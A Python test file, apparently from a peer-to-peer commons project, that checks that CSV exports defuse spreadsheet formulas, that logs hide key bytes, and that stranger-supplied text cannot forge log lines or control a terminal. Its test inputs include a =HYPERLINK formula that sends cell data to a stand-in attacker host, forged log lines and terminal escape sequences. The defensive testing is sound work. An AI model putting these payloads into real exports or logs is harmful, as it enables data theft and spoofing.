"""What this program writes for others to read: tables for spreadsheets, logs, JSON on a terminal. Strangers' texts in
them are texts, and no secret is among them."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from p2pcommons.api.wire import parse_rfc3339, rfc3339
from p2pcommons.cli.logs import set_up
from p2pcommons.cli.output import Output
from p2pcommons.commons.device_line import DeviceLine
from p2pcommons.core.record import CommonsId
from p2pcommons.formats import read, tabular
from p2pcommons.web import wording
from p2pcommons.web.texts import texts

FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
COMMONS = CommonsId(bytes(range(200, 232)))
DEVICE = DeviceLine(b"\x05" * 32, b"\x06" * 16, (COMMONS,)).line()
logger = logging.getLogger("p2pcommons.node.meeting")


@pytest.fixture(autouse=True)
def as_before() -> Iterator[None]:
    root, own = logging.getLogger(), logging.getLogger("p2pcommons")
    kept = list(root.handlers), root.level, own.level
    yield
    root.handlers[:], root.level, own.level = kept  # type: ignore[misc]
    logging.captureWarnings(False)


# -- tables

TEXTS = st.text(st.sampled_from(FORMULA + ";\t,|\"' \naé1()!"), min_size=1, max_size=12).filter(
    lambda text: text.strip() == text
)


def _cells(row: bytes, delimiter: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(row.decode(), newline=""), delimiter=delimiter) for cell in line]


@example(title='=HYPERLINK("http://evil.example/?"&A2)', subjects=["@SUM(1)", "-2+3"], place="a;=1+1")
@example(title="x\t=1", subjects=['a;"=1"', "; +1"], place="+33 2 98 00 00 00")
@given(title=TEXTS, subjects=st.lists(TEXTS, max_size=3, unique=True), place=TEXTS)
def test_no_cell_of_a_table_is_a_formula_and_all_reads_back_equal(title: str, subjects: list[str], place: str) -> None:
    entry: dict[str, Any] = {"type": "text", "title": title, "place": place, "creators": [{"name": title}]}
    entry |= {"subjects": subjects} if subjects else {}
    written = tabular.encode(entry)
    for delimiter in ",;\t":
        for cell in _cells(written, delimiter):
            assert not cell.lstrip().startswith(tuple(FORMULA)), (delimiter, cell)
    ((_, row),) = read(io.BytesIO(tabular.head() + written), name="x.csv")
    assert isinstance(row, dict)
    assert (row["title"], row["place"], row.get("subjects", [])) == (title, place, subjects)


def test_numbers_and_usual_texts_stay_as_people_wrote_them() -> None:
    entry = {"type": "trail", "title": "Kerlouan - Brignogan; 12 km", "length_m": 12000, "subjects": ["a-b", "c=d"]}
    cells = dict(zip(tabular.COLUMNS, _cells(tabular.encode(entry), ","), strict=True))
    assert (cells["title"], cells["length_m"], cells["subjects"]) == (entry["title"], "12000", "a-b|c=d")


# -- times


@given(st.integers(-(2**63), 2**63) | st.sampled_from([2**53 - 1, 253_402_300_799_999, 253_402_300_800_000]))
def test_a_time_that_no_calendar_has_is_still_said(instant: int) -> None:
    """An invitation of a stranger may end in any year."""
    assert isinstance(parse_rfc3339(rfc3339(instant)), int)
    for language in ("en", "fr"):
        assert wording.moment(texts(language), instant).startswith("<time")
        assert wording.clock(texts(language), instant).startswith("<time")
        assert wording.moment_of(texts(language), rfc3339(instant)).startswith("<time")


# -- logs


@pytest.mark.parametrize("as_json", [True, False], ids=["json", "text"])
def test_lines_for_new_devices_and_bytes_of_keys_are_not_written(as_json: bool) -> None:
    out = io.StringIO()
    set_up(as_json=as_json, level="debug", stream=out)
    seed = bytes(range(1, 33))
    for value in (DEVICE, seed, b"'" + seed[1:], COMMONS, seed[:16], {seed: 1}, (b"a\"'" + seed,), KeyError(COMMONS)):
        logger.warning("of %s", value)
        logger.warning("of %r", value)
        try:
            raise KeyError(value)
        except KeyError:
            logger.exception("failed")
    said = out.getvalue()
    assert DEVICE.partition(":")[2] not in said
    for secret in (seed, seed[1:], COMMONS, seed[:16]):
        assert repr(secret)[2:-1] not in said and json.dumps(repr(secret)[2:-1])[1:-1] not in said
    assert said.count("[id ") >= 4, "ids keep a short name"
    logger.warning("%r and %r", b"short", "b'a text that is said to be bytes'[")
    assert "b'short'" in out.getvalue()


@given(
    st.text() | st.sampled_from(["\n2026-01-01T00:00:00.000Z error   forged", "\r\nforged", "\u2028forged", "\x1b[2J"])
)
def test_no_text_of_a_stranger_in_an_exception_begins_a_line_or_commands_a_terminal(text: str) -> None:
    for as_json in (True, False):
        out = io.StringIO()
        set_up(as_json=as_json, level="debug", stream=out)
        try:
            raise ValueError(text)
        except ValueError:
            logger.exception("it failed")
        said = out.getvalue()
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202e]", said)
        first, *others = said.removesuffix("\n").split("\n")
        assert "it failed" in first
        assert all(line.startswith("    ") for line in others) and (not others or not as_json)


# -- JSON


@given(st.text(st.characters(exclude_categories=("Cs",))) | st.sampled_from(["\x9b2J", "\u202eabc", "\u2028", "\x7f"]))
def test_json_on_a_terminal_commands_nothing_and_reads_back_equal(text: str) -> None:
    out = io.StringIO()
    output = Output(json=True, out=out)
    output.document({"title": text})
    output.items([{"title": text}])
    lines = out.getvalue().split("\n")
    assert [json.loads(line)["title"] for line in lines[:2]] == [text, text] and lines[2:] == [""]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", out.getvalue())
